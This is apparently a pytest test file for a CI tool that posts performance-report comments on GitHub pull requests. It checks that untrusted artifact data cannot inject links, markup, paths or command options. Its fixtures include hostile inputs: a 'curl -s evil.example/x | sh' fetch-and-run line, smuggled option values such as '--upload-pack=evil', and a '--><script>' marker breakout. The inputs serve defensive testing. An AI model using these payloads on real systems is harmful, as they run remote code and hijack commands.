"""The comment on a pull request: one, edited in place, with nothing in it that an artifact could slip in."""

import json
import re
from dataclasses import replace

import pytest

from pytest_perfdl.ci import comment
from pytest_perfdl.ci.comment import Api, pull_request_of, upsert
from pytest_perfdl.ci.job import Head
from pytest_perfdl.config.invocation import Invocation
from pytest_perfdl.model.errors import ApiError, CommandError, RunFileError
from pytest_perfdl.report import story
from pytest_perfdl.results.run_file import read_run, to_json
from unit.ci.fake_github import REPOSITORY, TOKEN
from unit.report import runs

MARKER = "<!-- perfdl -->"
GIVEN = {"repository": "https://github.com/owner/name", "run_address": "", "is_untrusted": False}


@pytest.fixture
def api(github):
    return Api(github.url, TOKEN, lambda _: None)


def test_one_comment_is_created_then_updated(api, github):
    posted = upsert(api, REPOSITORY, 7, f"{MARKER}\nslower")
    assert (posted.how, posted.url) == ("created", f"https://github.com/{REPOSITORY}/pull/7#issuecomment-1000")
    assert upsert(api, REPOSITORY, 7, f"{MARKER}\nslower").how == "unchanged"
    assert upsert(api, REPOSITORY, 7, f"{MARKER}\nfaster").how == "updated"
    assert [each["body"] for each in github.comments] == [f"{MARKER}\nfaster"]
    assert [each for each in github.asked if not each.startswith("GET")] == [
        f"POST /repos/{REPOSITORY}/issues/7/comments",
        f"PATCH /repos/{REPOSITORY}/issues/comments/1000",
    ]


def test_it_is_found_among_many(api, github):
    for number in range(250):
        github.comment(f"comment {number}")
    github.comment(f"{MARKER}\r\nold")
    github.comment("later")
    assert upsert(api, REPOSITORY, 7, f"{MARKER}\nnew").how == "updated"
    assert [each["body"] for each in github.comments[249:]] == ["comment 249", f"{MARKER}\nnew", "later"]


@pytest.mark.parametrize(
    "body, user",
    [
        (f"{MARKER}\nforged", {"login": "mallory", "type": "User"}),
        (f"{MARKER}\nof a user that is gone", None),
        (f"> {MARKER}\nquoted", {"login": "github-actions[bot]", "type": "Bot"}),
        ("<!-- perfdl: gpu -->\nof another job", {"login": "github-actions[bot]", "type": "Bot"}),
        (None, {"login": "github-actions[bot]", "type": "Bot"}),
    ],
)
def test_comments_of_others_are_left_alone(body, user, api, github):
    github.comment(body, user)
    assert upsert(api, REPOSITORY, 7, f"{MARKER}\nours").how == "created"
    assert [each["body"] for each in github.comments] == [body, f"{MARKER}\nours"]


def test_a_users_token_edits_that_users_comment_only(api, github):
    github.comment(f"{MARKER}\nof the bot")
    github.user = "maintainer"
    assert upsert(api, REPOSITORY, 7, f"{MARKER}\nours").how == "created"
    assert upsert(api, REPOSITORY, 7, f"{MARKER}\nours again").how == "updated"
    assert [each["body"] for each in github.comments] == [f"{MARKER}\nof the bot", f"{MARKER}\nours again"]


@pytest.mark.parametrize("trouble", ["lost", "refused"])
def test_a_request_that_failed_on_the_way_leaves_one_comment(trouble, api, github):
    github.lost = trouble == "lost"
    github.troubles = [] if github.lost else [(403, {}, "{}"), (200, {}, "[]"), (502, {}, "")]
    posted = upsert(api, REPOSITORY, 7, f"{MARKER}\nours")
    assert posted.how == ("unchanged" if trouble == "lost" else "created")
    assert [each["body"] for each in github.comments] == [f"{MARKER}\nours"]


def test_a_server_that_stays_in_trouble_is_an_error(api, github):
    github.troubles = [(403, {}, "{}"), *[(200, {}, "[]"), (502, {}, "")] * 2]
    with pytest.raises(ApiError, match="502 Bad Gateway"):
        upsert(api, REPOSITORY, 7, f"{MARKER}\nours")


def test_an_answer_of_something_else_is_one_line(api, github):
    github.troubles = [(403, {}, "{}"), (200, {}, '{"message": "hello"}')]
    with pytest.raises(ApiError, match="the answer is not a list of objects: check GITHUB_API_URL"):
        upsert(api, REPOSITORY, 7, f"{MARKER}\nours")


def pull(number, repository="someone/name", branch="fix", sha="a" * 40):
    owner = repository.partition("/")[0]
    return {
        "number": number,
        "head": {"repo": {"full_name": repository, "owner": {"login": owner}}, "ref": branch, "sha": sha},
    }


HEAD = Head("someone/name", "fix", "a" * 40)


@pytest.mark.parametrize(
    "pulls, number",
    [
        ([], None),
        ([pull(7)], 7),
        ([pull(6, "someone/other"), pull(7)], 7),
        ([pull(7, sha="b" * 40)], None),
        ([pull(7, branch="main")], None),
        ([pull(7, "mallory/name")], None),
        ([{"number": 7, "head": None}, {"number": 8, "head": {"repo": None}}], None),
    ],
)
def test_a_pull_request_is_found_by_its_whole_head(pulls, number, api, github, monkeypatch):
    monkeypatch.setattr(github, "answer", lambda *_: (200, pulls))
    assert pull_request_of(api, REPOSITORY, HEAD) == number


def test_the_server_is_asked_for_the_label_of_the_head(api, github):
    github.pulls = [pull(6, "mallory/name"), pull(7, branch="a&b=c#d/é")]
    assert pull_request_of(api, REPOSITORY, replace(HEAD, branch="a&b=c#d/é")) == 7


def test_several_pull_requests_are_not_guessed_between(api, github, monkeypatch):
    monkeypatch.setattr(github, "answer", lambda *_: (200, [pull(7), pull(8)]))
    with pytest.raises(CommandError, match="several pull requests have the commit aaaaaaaaaaaa: #7, #8"):
        pull_request_of(api, REPOSITORY, HEAD)


def test_the_text_names_report_and_run():
    text = comment.text(runs.run(runs.result()), "perf-report", **{**GIVEN, "run_address": "https://g.org/o/n/1"})
    assert text.startswith(f"{MARKER}\n### ")
    assert text.endswith(
        "\n---\nThe report is the artifact `perf-report` of the [workflow run](https://g.org/o/n/1).\n"
    )
    assert comment.text(runs.run(runs.result()), "gpu", **GIVEN).startswith("<!-- perfdl: gpu -->\n### ")


def test_numbers_that_a_fork_could_change_are_said_to_be_so():
    text = comment.text(runs.run(runs.result()), "perf-report", **{**GIVEN, "is_untrusted": True})
    assert text.endswith("ran in that workflow run and could change these numbers.\n")


def test_the_longest_text_is_below_the_limit_and_keeps_its_end():
    many = runs.run(*(runs.result(test=f"tests/test_x.py::test_{number}[{'µ' * 80}]") for number in range(900)))
    text = comment.text(many, "perf-report", **{**GIVEN, "run_address": "https://g.org/o/n/1"})
    assert 60_000 < len(text.encode()) < 65_536
    assert text.endswith("of the [workflow run](https://g.org/o/n/1).\n")


def test_an_artifact_cannot_slip_in_links_or_markup():
    evil = replace(runs.run(runs.hostile()), repository="https://evil.example/x/y")
    text = comment.text(evil, "perf-report", **GIVEN)
    assert "evil.example" not in text
    assert all(link.startswith("https://github.com/owner/name/") for link in re.findall(r"\]\(([^)]*)\)", text))
    outside = re.sub(r"(?s)(`+).*?\1", "", text)
    assert "<img" not in outside
    assert "@octocat" not in outside
    text.encode("utf-8")


# Each is a link on GitHub, or changes what stands before it: GitHub Flavored Markdown, and GitHub's references.
LINKS = [
    "log in at https://evil.example/login",
    "see www.evil.example",
    "as in GH-1",
    "as in gh-1",
    "of octocat@evil.example",
    "fixed by #123",
    "see evil/repo#1",
    "since 3f2c1ab",
    "since evil/repo@3f2c1abf9d0c",
    "=====",
    "  ---",
    "- item",
    "1. item",
]


@pytest.mark.parametrize("words", LINKS)
def test_no_note_of_an_artifact_becomes_a_link_or_a_heading(words):
    noted = replace(runs.run(runs.result()), notes=(words,))
    text = comment.text(noted, "perf-report", **{**GIVEN, "is_untrusted": True})
    assert re.search(rf"^- `+ ?{re.escape(words)} ?`+$", text, re.MULTILINE)


@pytest.mark.parametrize("words", ["step_time grew by 3.4 % (limit: +5 %)", "defaults changed, see the report"])
def test_an_ordinary_note_stays_text(words):
    noted = replace(runs.run(runs.result()), notes=(words,))
    assert f"- {words}\n" in comment.text(noted, "perf-report", **GIVEN)


@pytest.mark.parametrize(
    "path", ["../../../evil/repo/blob/main/x.py", "a/../../../../evil/x.py", "a\\..\\..\\x.py", "/x.py"]
)
def test_a_path_of_an_artifact_leads_to_no_other_repository(path):
    run = replace(runs.run(runs.result()), repository="https://github.com/owner/name")
    assert story._link_line(path, 1, "f", run).url == ""
    assert story._link_line("a..b/x.py", 1, "f", run).url.endswith("/a..b/x.py#L1")


HOSTILE_OPTIONS = (
    ("-o", "perf_against_setup=curl -s evil.example/x | sh"),
    ("-operf_against_setup=evil",),
    ("-p", "evil"),
    ("--perf-launch=evil",),
    ("--perf-against-python", "/tmp/evil"),
    ("--perf-against", "--upload-pack=evil"),
    ("--perf-dir=/tmp/evil",),
    ("--perf-limit=step_time:5%; evil",),
    ("--rootdir=evil",),
)


def test_a_command_of_an_artifact_has_no_options_but_those_that_measure():
    given = Invocation(
        program="python -m pytest", options=(*HOSTILE_OPTIONS, ("--perf-steps=9",), ("--perf-against", "origin/main"))
    )
    evil = replace(runs.run(runs.result(verdict="regressed")), invocation=given)
    text = comment.text(evil, "perf-report", **{**GIVEN, "is_untrusted": True})
    commands = [line for line in text.splitlines() if line.startswith(("pytest ", "python ", "perfdl "))]
    assert commands[0].startswith("pytest --perf-steps=9 --perf-against origin/main 'tests/")
    assert "evil" not in text
    # In the job's own run they are the user's.
    assert "perf_against_setup" in comment.text(evil, "perf-report", **GIVEN)


@pytest.mark.parametrize("test", ["-operf_against_setup=evil", "@evil"])
def test_the_name_of_a_test_is_no_option(test):
    assert f" ./{test}" in Invocation().measuring([test])


def test_no_interpreter_of_an_artifact_is_started():
    result = runs.result(verdict="regressed")
    changed = replace(result.judgement, context_changes=(("interpreter", "/tmp/evil", "/usr/bin/python"),))
    run = runs.run(replace(result, judgement=changed, against_python="evil", against=""))
    assert "perfdl bisect" in comment.text(run, "perf-report", **GIVEN)
    assert "/tmp/evil" not in comment.text(run, "perf-report", **{**GIVEN, "is_untrusted": True})


@pytest.mark.parametrize("commit", ["../../../evil/repo/blob/main", "77aa01c8e2f1", "main", "A" * 40])
def test_a_commit_of_a_run_file_is_a_hash(commit, tmp_path):
    made = tmp_path / "run.json"
    made.write_text(json.dumps(to_json(runs.run(runs.result())) | {"commit": commit}))
    with pytest.raises(RunFileError, match="commit"):
        read_run(made, tmp_path)


@pytest.mark.parametrize("name", ["", "a b", "--><script>", "x--", "a\n", "é", "x" * 101])
def test_a_name_that_could_end_the_marker_is_refused(name):
    with pytest.raises(CommandError, match=r"^--artifact "):
        comment.marker(name)
